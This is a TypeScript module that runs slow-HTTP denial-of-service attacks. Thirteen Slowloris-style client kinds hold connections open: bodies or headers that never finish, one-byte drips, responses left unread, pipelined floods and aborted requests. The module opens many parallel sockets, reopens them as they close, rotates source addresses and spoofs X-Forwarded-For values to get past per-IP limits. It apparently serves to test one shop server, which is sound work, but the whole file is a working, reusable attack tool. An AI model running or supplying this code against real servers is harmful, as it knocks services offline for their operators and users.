import { setMaxListeners } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';

/** What a client of an attack sends on a connection, and how it goes on. */
export interface SlowClient {
  /** Text that is sent first. `head` holds the header fields that every request needs. */
  begin: (head: string) => string;
  /** Text that is sent every second while the connection is open. Default: none. */
  drip?: string;
  /** Reads what the server sends. Default: false, the receive window fills up. */
  reads?: boolean;
  /** Closes the connection itself after this time in milliseconds. */
  abortAfterMs?: number;
}

const post = (head: string, fields: string) => `POST /web/goods/info/index HTTP/1.1\r\n${head}${fields}\r\n`;
const get = (head: string, path: string) => `GET ${path} HTTP/1.1\r\n${head}\r\n`;

/** Ways to keep a server busy without work of its own, by name. */
export const slowClients = {
  'body that never ends': { begin: (head) => `${post(head, 'Content-Length: 1000\r\n')}{`, reads: true },
  'body of one byte per second': {
    begin: (head) => `${post(head, 'Content-Length: 1000\r\n')}{`,
    drip: ' ',
    reads: true,
  },
  'chunked body of one byte per second': {
    begin: (head) => `${post(head, 'Transfer-Encoding: chunked\r\n')}1\r\n{\r\n`,
    drip: '1\r\n \r\n',
    reads: true,
  },
  'body announced with Expect: 100-continue': {
    begin: (head) => post(head, 'Content-Length: 1000\r\nExpect: 100-continue\r\n'),
    reads: true,
  },
  'headers that never end': {
    begin: (head) => `GET / HTTP/1.1\r\n${head}`,
    drip: 'X-Slow: 1\r\n',
    reads: true,
  },
  'no bytes at all': { begin: () => '', reads: true },
  'idle connection after a request': { begin: (head) => get(head, '/robots.txt'), reads: true },
  'request for an upgrade': {
    begin: (head) => `GET / HTTP/1.1\r\n${head}Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
    reads: true,
  },
  'pages that are not read': { begin: (head) => get(head, '/categoryList?id=1') },
  'scripts that are not read': { begin: (head) => get(head, '/sw.js') },
  'feeds that are not read': { begin: (head) => get(head, '/feeds/products.xml') },
  'pipelined calls': {
    begin: (head) => `${post(head, 'Content-Length: 8\r\n')}{"id":1}`.repeat(200),
  },
  'requests aborted half way': {
    begin: (head) => `${post(head, 'Content-Length: 1000\r\n')}{`,
    abortAfterMs: 200,
  },
} as const satisfies Record<string, SlowClient>;

export type SlowClientName = keyof typeof slowClients;

export interface AttackOptions {
  /** Open connections in all. */
  connections: number;
  /** Local addresses from which they come in turn. */
  from: readonly string[];
  /** Addresses that a proxy would report in `X-Forwarded-For`, in turn. Default: no proxy. */
  forwarded?: readonly string[];
  /** The attack ends then. */
  signal: AbortSignal;
}

/** Time before a closed connection is opened again. */
const REOPEN_MS = 100;

/** Keeps connections of one kind open until the signal aborts. Resolves to the number of connections that were opened. */
export async function attack(
  address: string,
  client: SlowClient,
  { connections, from, forwarded, signal }: AttackOptions,
): Promise<number> {
  const { hostname, port } = new URL(address);
  // Each connection listens.
  setMaxListeners(0, signal);
  let opened = 0;
  const open = (index: number): Promise<void> => {
    const ip = forwarded?.[index % forwarded.length];
    const head = `Host: shop\r\nContent-Type: application/json\r\n${ip ? `X-Forwarded-For: ${ip}\r\n` : ''}`;
    const localAddress = from[index % from.length];
    const socket = connect({ host: hostname, port: Number(port), ...(localAddress && { localAddress }) });
    opened += 1;
    return hold(socket, client, head, signal);
  };
  await Promise.all(
    Array.from({ length: connections }, async (_, index) => {
      while (!signal.aborted) {
        await open(index);
        await wait(REOPEN_MS);
      }
    }),
  );
  return opened;
}

/** Resolves when the connection is closed, by either side. */
function hold(socket: Socket, client: SlowClient, head: string, signal: AbortSignal): Promise<void> {
  return new Promise((resolve) => {
    const timers: NodeJS.Timeout[] = [];
    const end = () => socket.destroy();
    signal.addEventListener('abort', end, { once: true });
    socket.once('error', () => undefined);
    socket.once('close', () => {
      for (const timer of timers) clearInterval(timer);
      signal.removeEventListener('abort', end);
      resolve();
    });
    socket.once('connect', () => {
      socket.write(client.begin(head));
      const { drip, reads = false, abortAfterMs } = client;
      if (reads) socket.resume();
      else socket.pause();
      if (drip) timers.push(setInterval(() => socket.write(drip), 1000));
      if (abortAfterMs) timers.push(setTimeout(end, abortAfterMs));
    });
  });
}
